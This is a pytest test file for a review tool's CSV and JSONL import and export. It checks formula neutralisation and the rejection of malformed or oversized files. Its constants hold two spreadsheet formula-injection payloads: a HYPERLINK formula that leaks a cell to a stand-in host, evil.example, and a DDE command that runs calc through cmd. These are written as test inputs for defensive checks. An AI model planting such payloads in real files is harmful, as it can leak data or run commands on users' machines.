"""Reviewers' files read back safely: CSV cells a spreadsheet would run as formulas are neutralised on the way out
and restored on the way in; hostile files (binary, invalid UTF-8, huge cells and lines, deep JSON, long numbers)
are rejected row by row or as a whole, never a crash; CSV rows are checked against their item (key, cells, digits,
duplicates) and the file is streamed, not read whole."""

from __future__ import annotations

import csv
import io
import json
import os
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest

from schemas.review import ReviewItemView, ReviewStage, ReviewStatus
from storage.outfiles import spreadsheet_safe, spreadsheet_value
from tasks.review.answers import RejectedRow, ReviewAnswer
from tasks.review.files import CELL_LIMIT, write_csv, write_jsonl
from tasks.review.queue import read_answers

INVOICE = {"vendor_name": "ACME", "invoice_number": "7", "total": "12.50", "line_items": []}
FORMULA_KEY = '=HYPERLINK("http://evil.example/?"&A1,"open me").pdf'
CALC = "=cmd|' /C calc'!A0"


def _item(item_id: int = 1, key: str = "doc.pdf", value: dict[str, object] | None = None) -> ReviewItemView:
    return ReviewItemView(
        id=item_id,
        object_id=item_id,
        key=key,
        kind="pdf",
        stage=ReviewStage.EXTRACTION,
        schema_id="invoice/v1",
        status=ReviewStatus.OPEN,
        audit=False,
        reasons=[],
        model_output={"data": value or INVOICE},
        model_id="m",
        score=0.5,
        created_at=datetime.now(UTC),
    )


def _exported(tmp_path: Path, *items: ReviewItemView) -> tuple[Path, list[list[str]]]:
    path = tmp_path / "review.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(items, out)
    with path.open(encoding="utf-8", newline="") as stream:
        return path, list(csv.reader(stream))


def _write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return path


def _edited(rows: list[list[str]], item_id: int, field: str, correction: str, reviewer: str = "ana") -> list[str]:
    """A copy of the exported row of `field`, with the correction and reviewer filled in."""
    header = rows[0]
    row = next(r for r in rows[1:] if r[0] == str(item_id) and r[header.index("field")] == field)
    edited = list(row)
    edited[header.index("correction")], edited[header.index("reviewer")] = correction, reviewer
    return edited


def _read(path: Path, *items: ReviewItemView) -> tuple[list[ReviewAnswer], list[RejectedRow]]:
    return read_answers(path, {item.id: item for item in items})


# --- 1. formula injection ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+2", "+1", "-5.00", "-1+2", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", "", "a=b"]
)
def test_a_spreadsheet_safe_cell_reads_back_as_the_value(value: str) -> None:
    cell = spreadsheet_safe(value)
    assert isinstance(cell, str)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell == "-5.00"  # a negative number stays one
    assert spreadsheet_value(cell) == value


def test_csv_export_neutralises_formulas_and_import_reads_them_back_unchanged(tmp_path: Path) -> None:
    item = _item(key=FORMULA_KEY, value={**INVOICE, "vendor_name": "@evil", "total": "-12.50", "subtotal": "-1+2"})
    _, rows = _exported(tmp_path, item)
    header = rows[0]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-12.50"]
    by_field = {r[header.index("field")]: r for r in rows[1:]}
    assert by_field["total"][header.index("key")] == "'" + FORMULA_KEY
    assert by_field["vendor_name"][header.index("value")] == "'@evil"
    assert by_field["total"][header.index("value")] == "-12.50"  # a refund is a number, no formula: kept as one
    assert by_field["subtotal"][header.index("value")] == "'-1+2"
    # A reviewer's correction that is itself a formula, typed as a spreadsheet keeps it: text behind a quote.
    edited = _write_rows(tmp_path / "edited.csv", [header, _edited(rows, 1, "vendor_name", "'" + CALC)])
    answers, rejected = _read(edited, item)
    assert rejected == []  # the key, read back without its quote, is the item's key
    assert answers[0].corrected is not None and answers[0].corrected["vendor_name"] == CALC


def test_jsonl_export_is_not_escaped(tmp_path: Path) -> None:
    out = io.StringIO()
    write_jsonl([_item(key=FORMULA_KEY)], out)
    assert json.loads(out.getvalue())["key"] == FORMULA_KEY  # JSON is no spreadsheet: values as they are


# --- 6. hostile files --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("garbage", "reason"),
    [
        (os.urandom(4096) + b"\x00" + os.urandom(4096), "not a text file (binary, or UTF-16)"),
        (bytes(range(0x80, 0x100)) * 64 + b"\n" + os.urandom(4096).replace(b"\x00", b""), "not a docflow review CSV"),
        ("item_id,field\n".encode("utf-16"), "not a text file (binary, or UTF-16)"),
    ],
)
def test_a_file_that_is_not_text_is_rejected_as_a_whole(tmp_path: Path, garbage: bytes, reason: str) -> None:
    path = tmp_path / "garbage.csv"
    path.write_bytes(garbage)
    answers, rejected = _read(path, _item())
    assert answers == [] and len(rejected) == 1 and rejected[0].reason.startswith(reason)


def test_bytes_that_are_not_utf8_reject_their_row_only(tmp_path: Path) -> None:
    _, rows = _exported(tmp_path, _item(1), _item(2, "other.pdf"))
    good = _edited(rows, 1, "total", "13.00")
    path = tmp_path / "edited.csv"
    _write_rows(path, [rows[0], good])
    broken = _edited(rows, 2, "total", "BROKEN")
    with path.open("ab") as out:
        out.write(",".join(broken).replace("BROKEN", "\xff\xfe").encode("latin-1") + b"\r\n")
    answers, rejected = _read(path, _item(1), _item(2, "other.pdf"))
    assert [(a.item_id, a.corrected and a.corrected["total"]) for a in answers] == [(1, "13.00")]
    assert [(r.where, r.reason) for r in rejected] == [("row 3", "item 2: not UTF-8 text")]


def test_a_cell_over_the_limit_is_rejected_and_the_next_row_is_read(tmp_path: Path) -> None:
    _, rows = _exported(tmp_path, _item(1), _item(2, "other.pdf"))
    huge = _edited(rows, 1, "vendor_name", "x" * (5 * 1024 * 1024))  # a 5 MB correction
    quoted = _edited(rows, 1, "total", "line\n" * (CELL_LIMIT // 5 + 10))  # over the limit across many lines
    path = _write_rows(tmp_path / "edited.csv", [rows[0], huge, _edited(rows, 2, "total", "9.00")])
    tracemalloc.start()
    answers, rejected = _read(path, _item(1), _item(2, "other.pdf"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert [(r.where, r.reason) for r in rejected] == [("row 2", "a cell longer than 128 K characters")]
    assert [(a.item_id, a.corrected and a.corrected["total"]) for a in answers] == [(2, "9.00")]
    assert peak < 40 * 1024 * 1024  # the 5 MB line once, not the file several times over (316 MB before)
    path = _write_rows(tmp_path / "quoted.csv", [rows[0], quoted])
    answers, rejected = _read(path, _item(1))
    assert answers == [] and rejected[0].reason == "a cell longer than 128 K characters"


def test_a_line_over_the_line_limit_is_skipped_without_being_held(tmp_path: Path) -> None:
    item = _item()
    path = tmp_path / "edited.jsonl"
    with path.open("w") as out:
        out.write(json.dumps({"item_id": 1, "reviewer": "ana", "note": "x" * (9 * 1024 * 1024)}) + "\n")
        out.write(json.dumps({"item_id": 1, "key": "doc.pdf", "reviewer": "ana"}) + "\n")
    answers, rejected = _read(path, item)
    assert [(r.where, r.reason) for r in rejected] == [("line 1", "longer than 8 M characters")]
    assert [(a.item_id, a.where) for a in answers] == [(1, "line 2")]


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("[" * 10_000 + "]" * 10_000, "not JSON: nested too deeply"),
        ('{"item_id": 1, "correction": ' + "[" * 10_000 + "]" * 10_000 + "}", "not JSON: nested too deeply"),
        ('{"item_id": ' + "7" * 5000 + ', "reviewer": "ana"}', "not JSON: a number with too many digits"),
        ('{"item_id": "' + "7" * 5000 + '", "reviewer": "ana"}', "unknown review item '777777777777777"),
        ('{"item_id": "\u0661", "reviewer": "ana"}', "unknown review item '\u0661'"),
        ('{"item_id": true, "reviewer": "ana"}', "unknown review item True"),
        ('{"item_id": 1, "key": "other.pdf", "reviewer": "ana"}', "item 1: the key 'other.pdf' is not this item"),
        ('{"item_id": 1, "reviewer": "' + "a" * 300 + '"}', "item 1: a reviewer name longer than 256"),
        ('{"item_id": 1, "reviewer": ["ana"]}', "item 1: the reviewer is not text"),
        ('{"item_id": 1, "correction": {"total": "1\\u0000"}}', "item 1: a NUL character"),
    ],
)
def test_hostile_jsonl_lines_are_rejected_one_by_one(tmp_path: Path, line: str, reason: str) -> None:
    path = tmp_path / "edited.jsonl"
    path.write_text(json.dumps({"item_id": 2, "reviewer": "ana"}) + "\n" + line + "\n")
    answers, rejected = _read(path, _item(1), _item(2, "other.pdf"))
    assert [a.item_id for a in answers] == [2]  # the good line is read
    assert len(rejected) == 1 and rejected[0].where == "line 2" and rejected[0].reason.startswith(reason)
    assert len(rejected[0].reason) < 200  # a 5,000-digit value is not echoed whole


def test_deep_json_and_long_numbers_in_a_csv_correction_are_rejected(tmp_path: Path) -> None:
    _, rows = _exported(tmp_path, _item(1), _item(2, "other.pdf"))
    deep = _edited(rows, 1, "line_items", "[" * 10_000 + "]" * 10_000)
    long_id = ["7" * 5000, *_edited(rows, 2, "total", "1.00")[1:]]
    path = _write_rows(tmp_path / "edited.csv", [rows[0], deep, long_id, _edited(rows, 2, "total", "2.00")])
    answers, rejected = _read(path, _item(1), _item(2, "other.pdf"))
    assert [(a.item_id, a.corrected and a.corrected["total"]) for a in answers] == [(2, "2.00")]
    reasons = sorted(r.reason for r in rejected)
    assert reasons[0].startswith("'[[[[") and "nested too deeply" in reasons[0]
    assert reasons[1].startswith("unknown review item '7777") and len(reasons[1]) < 100


# --- 11. lax CSV ---------------------------------------------------------------------------------------------------


def test_csv_rows_must_agree_with_their_item(tmp_path: Path) -> None:
    items = [_item(1), _item(2, "other.pdf"), _item(3, "third.pdf"), _item(4, "fourth.pdf"), _item(5, "fifth.pdf")]
    _, rows = _exported(tmp_path, *items)
    header = rows[0]
    wrong_key = _edited(rows, 1, "total", "1.00")
    wrong_key[header.index("key")] = "other.pdf"  # the row applies to item 1, of another document
    extra = [*_edited(rows, 2, "total", "2.00"), "surplus"]
    arabic = ["\u0663", *_edited(rows, 3, "total", "3.00")[1:]]  # Arabic-Indic 3
    same = _edited(rows, 4, "total", "4.00")
    conflicting = [_edited(rows, 5, "total", "5.00"), _edited(rows, 5, "total", "6.00")]
    path = _write_rows(tmp_path / "edited.csv", [header, wrong_key, extra, arabic, same, same, *conflicting])
    answers, rejected = _read(path, *items)
    assert [(a.item_id, a.corrected and a.corrected["total"]) for a in answers] == [(4, "4.00")]  # duplicates agree
    assert [(r.where, r.reason) for r in rejected] == [
        ("row 2", "item 1: the key 'other.pdf' is not this item's object ('doc.pdf')"),
        ("row 3", f"item 2: {len(header) + 1} cells, but the header has {len(header)} columns"),
        ("row 4", "unknown review item '\u0663'"),
        ("row 8", "item 5: total: '6.00' here, '5.00' on row 7"),
    ]


def test_a_big_csv_is_streamed_not_read_whole(tmp_path: Path) -> None:
    """20 MB of rows a reviewer left alone: memory stays at a few rows, not the file (read whole, it was 3-4
    times the file's size)."""
    item = _item()
    _, rows = _exported(tmp_path, item)
    untouched = next(r for r in rows[1:] if r[rows[0].index("field")] == "total")
    untouched[rows[0].index("reason")] = "r" * 2000
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(rows[0])
        writer.writerows([untouched] * 10_000)
    assert path.stat().st_size > 20_000_000
    tracemalloc.start()
    answers, rejected = _read(path, item)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (answers, rejected) == ([], [])
    assert peak < 5 * 1024 * 1024
